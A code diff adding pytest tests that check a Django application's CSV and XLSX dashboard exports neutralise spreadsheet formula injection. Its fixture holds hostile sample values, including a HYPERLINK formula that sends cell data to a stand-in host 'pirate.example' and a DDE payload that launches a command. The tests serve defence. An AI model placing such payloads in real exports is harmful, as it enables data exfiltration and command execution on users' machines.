@@ -75,3 +75,59 @@ def test_conflicted_reviewer_exports_no_scores(client, world):
     row = text.decode("utf-8-sig").strip().splitlines()[1].split(";")
     assert "2,0" not in row  # no per-criterion mean
     assert "3,0" not in row
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
+    "organisation": "+cmd|' /C calc'!A0",
+    "challenge": "@SUM(1+1)",
+    "reason": "-2+3",
+    "motivation": "\tRetenu",
+}
+
+
+@pytest.fixture
+def hostile(world):
+    from applications.models import ApplicationTarget
+    from tests.factories import ChallengeFactory
+
+    target = world.application(
+        world.a, title=FORMULAS["title"], organisation__name=FORMULAS["organisation"]
+    )
+    target.application.challenges.add(
+        ChallengeFactory(participation=world.a, title=FORMULAS["challenge"])
+    )
+    ApplicationTarget.objects.filter(pk=target.pk).update(
+        eligibility_reason=FORMULAS["reason"],
+        decision=ApplicationTarget.Decision.NOT_SELECTED,
+        decision_motivation=FORMULAS["motivation"],
+    )
+    world.submitted_review(target, world.reviewer_a, [4, 1])
+    return target
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(client, world, hostile):
+    import csv
+
+    client.force_login(world.manager_a)
+    response = client.get(reverse("staff:dashboard_export", args=[world.a.pk, "csv"]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    row = next(r for r in rows if r[0] == hostile.application.reference)
+    for text in FORMULAS.values():
+        assert "'" + text in row
+        assert text not in row
+    # Weighted (8 + 1) / 3 = 3.0, still a plain number.
+    assert "3,0" in row
+
+
+def test_xlsx_neutralises_formulas_in_string_cells(client, world, hostile):
+    client.force_login(world.manager_a)
+    response = client.get(reverse("staff:dashboard_export", args=[world.a.pk, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == hostile.application.reference)
+    texts = {cell.value: cell.data_type for cell in row if isinstance(cell.value, str)}
+    for text in FORMULAS.values():
+        assert texts.get("'" + text) == "s"
+    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
+    scores = [cell.value for cell in row if cell.data_type == "n" and cell.value is not None]
+    assert 3 in scores  # the weighted score, still a number
